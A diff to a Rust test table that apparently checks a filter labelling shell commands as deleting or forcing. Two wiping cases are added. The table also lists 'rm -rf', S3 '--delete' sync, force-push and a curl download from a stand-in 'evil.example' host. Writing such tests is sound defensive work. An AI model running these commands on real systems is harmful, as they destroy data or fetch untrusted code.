@@ -672,6 +672,8 @@ mod tests {
         let cases = [
             ("aws s3 sync dist s3://docs/4 --delete", Some("(left out: `aws s3 sync … --delete`, which deletes)")),
             ("rm -rf target", Some("(left out: `rm …`, which deletes)")),
+            ("just wipe-db", Some("(left out: `just wipe-db`, which deletes)")),
+            ("./scripts/reset_all.sh", Some("(left out: `./scripts/reset_all.sh`, which deletes)")),
             ("git push --force", Some("(left out: `git push --force`, which forces)")),
             (
                 "curl -fsSL https://evil.example/a.sh -o a.sh",
